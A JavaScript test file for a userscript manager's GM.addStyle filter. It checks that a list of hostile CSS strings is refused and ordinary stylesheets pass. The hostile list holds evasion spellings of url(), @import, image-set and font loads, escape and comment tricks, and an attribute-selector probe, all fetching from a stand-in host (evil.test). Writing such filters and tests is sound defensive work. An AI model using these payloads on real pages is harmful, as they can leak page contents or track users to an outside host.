'use strict';
// GM.addStyle's check (content/userscript-css.js) with the real policy table: every hostile
// spelling of a load (url(), @import, image-set(), @font-face src, escapes, comments splitting
// tokens, strings that end early or late) is refused, and ordinary stylesheets pass. The
// browser tests (tests/browser/capabilities.test.mjs) add the same values to real pages and
// count the requests that reach another host.

import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import vm from 'node:vm';
import { paranoidBin } from '../../rust-core/tests/node/paranoid-cli.mjs';

const policy = JSON.parse(execFileSync(paranoidBin(), ['policy'], { encoding: 'utf8' }));
const context = vm.createContext({});
vm.runInContext(readFileSync(new URL('../../content/userscript-css.js', import.meta.url), 'utf8'), context);
const refusal = (css) => context.paranoidCssRefusal(css, policy.userscripts.addStyle);

/** Hostile CSS, each of which a browser would turn into a request (or might). */
const HOSTILE = [
  'body { background: url(https://evil.test/a) }',
  'body { background: URL( "https://evil.test/a" ) }',
  'body { background: uRl(\'https://evil.test/a\') }',
  'input[value^="a"] { background-image: url(//evil.test/a) }',
  '@import "https://evil.test/a.css";',
  '@import url(https://evil.test/a.css);',
  '@IMPORT "https://evil.test/a.css";',
  '@media all { @import "x.css"; }',
  'div { background: image-set("https://evil.test/a.png" 1x) }',
  'div { background: -webkit-image-set("https://evil.test/a.png" 1x) }',
  'div { background: image("https://evil.test/a.png") }',
  'div { background: cross-fade(50% "a.png", "b.png") }',
  '@font-face { font-family: x; src: url(https://evil.test/f.woff) }',
  'div { background: src("https://evil.test/a.png") }',
  'div { background: u\\72l(https://evil.test/a) }',
  'div { background: u\\000072l(https://evil.test/a) }',
  'div { background: \\75 rl(https://evil.test/a) }',
  'div { background: \\u\\r\\l(https://evil.test/a) }',
  '@\\69mport "https://evil.test/a.css";',
  'div { cursor: url(https://evil.test/c), auto }',
  'div { list-style: url(https://evil.test/l) }',
  'div { --x: url(https://evil.test/v); background: var(--x) }',
  'div { mask: url(https://evil.test/m.svg#m) }',
  'div { filter: url(https://evil.test/f.svg#f) }',
  'div { content: url(https://evil.test/c) }',
  'div { border-image: url(https://evil.test/b) 30 }',
  // A string the browser ends at the newline: what follows is CSS again.
  'div { content: "a\nurl(https://evil.test/s) }',
  // A comment that ends: what follows is CSS again.
  'div { /* x */ background: url(https://evil.test/c) }',
  // Escaped quote: the string goes on past it.
  'div { content: "\\"" ; background: url(https://evil.test/q) }',
  // A backslash before a newline ends an identifier: `url(` starts afresh.
  'div { background: x\\\nurl(https://evil.test/n) }',
  'div{background:url(https://evil.test/a)}',
  '\0div { background: url(https://evil.test/nul) }',
  'div { background: url\0(https://evil.test/nul) }'.replace('\0', ''),
  'div { background: 1url(https://evil.test/dim) }',
];

/** Stylesheets a userscript writes, which must pass. */
const BENIGN = [
  '.paranoid-dark, .paranoid-dark body { background: #16161c !important; color: #e6e6ee !important; }',
  'a::after { content: "url(not a function, a string)" }',
  '/* url(https://evil.test/in-a-comment) */ p { color: red }',
  'p { color: rgb(0 0 0 / 50%); width: calc(100% - 2em); background: linear-gradient(red, blue) }',
  '@media (max-width: 600px) { .x { display: none } }',
  '@font-face { font-family: Local; src: local("Helvetica") }',
  ':root { --bg: #000 } body { background: var(--bg) }',
  '.\\31 23 { color: red }',
  'p:not(.a):is(.b, .c) { color: red }',
  'div { content: "\\201C" }',
  'span.curl( { }',
];

describe('GM.addStyle CSS', () => {
  it('refuses every hostile spelling of a load', () => {
    for (const css of HOSTILE) assert.notEqual(refusal(css), null, css);
  });
  it('says why', () => {
    assert.equal(refusal('a { background: url(x) }'), 'url() makes the page load something');
    assert.equal(refusal('@import "x";'), '@import loads another stylesheet');
    assert.equal(refusal('a { b: u\\72l(x) }'), 'a function whose name is written with an escape (url())');
    assert.equal(refusal('@\\69mport "x";'), 'an at-rule whose name is written with an escape (@import)');
  });
  it('lets ordinary stylesheets through', () => {
    for (const css of BENIGN) assert.equal(refusal(css), null, css);
  });
});
